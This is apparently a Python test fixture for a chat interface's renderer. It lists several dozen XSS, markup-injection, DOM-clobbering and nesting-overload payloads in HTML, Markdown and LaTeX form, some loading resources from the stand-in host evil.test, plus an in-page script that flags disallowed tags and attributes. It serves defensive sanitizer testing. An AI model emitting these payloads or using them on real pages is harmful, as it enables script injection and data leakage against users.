"""What a model may write to make the page do something, as text of an answer. Each would call
`pwned()`, ask another host for something, or take the page elsewhere, if the page let it."""

AWAY = "https://evil.test"

CORPUS = [
    "<script>pwned()</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<img src=x onerror=pwned()>",
    f"<img src='{AWAY}/i.png'>",
    f"![picture]({AWAY}/p.png)",
    "![x](javascript:pwned())",
    "[click](javascript:pwned())",
    "[click](  JaVaScRiPt:pwned())",
    "[click](java\tscript:pwned())",
    "[click](&#106;avascript:pwned())",
    "[click](data:text/html,<script>pwned()</script>)",
    "[click](vbscript:pwned())",
    "[click](/v1/models)",
    "[click](//evil.test)",
    f"[a]({AWAY}/\"onmouseover=\"pwned())",
    f"<{AWAY}/'onclick='pwned()>",
    "[ref]\n\n[ref]: javascript:pwned() \"t\"",
    f"[t]({AWAY} '\" onfocus=pwned() autofocus x=\"')",
    "<a href=javascript:pwned() autofocus onfocus=pwned()>a</a>",
    "<svg onload=pwned()><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned()>#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
    "<math href=javascript:pwned()>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
    f"<iframe src='{AWAY}'></iframe>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    f"<link rel=stylesheet href={AWAY}/x.css>",
    f"<style>@import '{AWAY}/x.css'; body {{ display: none }}</style>",
    f"<p style=\"background: url({AWAY}/b.png)\">p</p>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<base href='{AWAY}/'>",
    f"<form action={AWAY}><input name=x autofocus onfocus=pwned()><button>b</button></form>",
    f"<video src={AWAY}/v onerror=pwned()><source onerror=pwned()></video>",
    f"<object data={AWAY}/o></object><embed src={AWAY}/e>",
    "<details open ontoggle=pwned()>d</details>",
    "<body onload=pwned()>",
    "<div id=messages name=prompt>clobbered</div>",
    "<br onclick=pwned()><sub onmouseover=pwned()>s</sub>",
    "<b/onclick=pwned()>b</b>",
    "<!--><script>pwned()</script>-->",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'></noscript>",
    "<template><script>pwned()</script></template>",
    "`<img src=x onerror=pwned()>`",
    "```html\n<img src=x onerror=pwned()></code></pre><script>pwned()</script>\n```",
    "```\"><img src=x onerror=pwned()>\nx\n```",
    "```js onclick=pwned()\nalert(1)</code><script>pwned()</script>\n```",
    "| <img src=x onerror=pwned()> | b |\n|---|---|\n| <script>pwned()</script> | ![c](x.png) |",
    r"$\href{javascript:pwned()}{x}$",
    r"$$\url{javascript:pwned()}$$",
    r"\(\includegraphics[height=1em]{https://evil.test/i.png}\)",
    r"\[\htmlData{x=<img src=x onerror=pwned()>}{y} \htmlStyle{background:url(https://evil.test)}{z}\]",
    r"$\htmlId{prompt}{x} \htmlClass{dropping}{x}$",
    r"$\text{<img src=x onerror=pwned()>}$",
    r"$</span><script>pwned()</script>$",
    r"$$\unknown{<svg onload=pwned()>}$$",
    r"$$\def\a{\a\a}\a$$",
    r"$$\rule{100000em}{100000em}$$",
    r"$\fcolorbox{red}{blue;background:url(https://evil.test)}{x}$",
    ">" * 20000 + " deep",
    "- " * 3000 + "deep",
    "[" * 5000 + "](" * 5000,
    "**" * 3000,
    "$" * 3001,
    "\u202e<script>pwned()</script>",
]

# Run in the page: what there must not be inside what the model wrote.
INSPECT = """
const allowed = new Set(('ARTICLE DIV FOOTER DETAILS SUMMARY P BR HR H1 H2 H3 H4 H5 H6 UL OL LI ' +
    'BLOCKQUOTE PRE CODE SPAN TABLE THEAD TBODY TR TH TD STRONG EM DEL A SUB SUP KBD MARK U S B I ' +
    'BUTTON PROGRESS svg use path line').split(' '));
const problems = [];
for (const element of document.querySelectorAll('#messages .message.assistant *')) {
  const math = element.namespaceURI === 'http://www.w3.org/1998/Math/MathML';
  if (!math && !allowed.has(element.tagName)) problems.push(element.outerHTML.slice(0, 200));
  for (const {name, value} of element.attributes) {
    const bad = /^on|^(id|name|src|srcdoc|action)$/i.test(name) ||
        (/href/i.test(name) && /^\\s*(javascript|data|vbscript):/i.test(value)) ||
        (name === 'style' && /url/.test(value));
    if (bad) problems.push(`${name}=${value.slice(0, 100)}`);
  }
  if (element.tagName === 'A' && (!/^(https?|mailto):/.test(element.getAttribute('href')) ||
      element.target !== '_blank' || !element.relList.contains('noopener'))) {
    problems.push(element.outerHTML.slice(0, 200));
  }
}
return problems;
"""
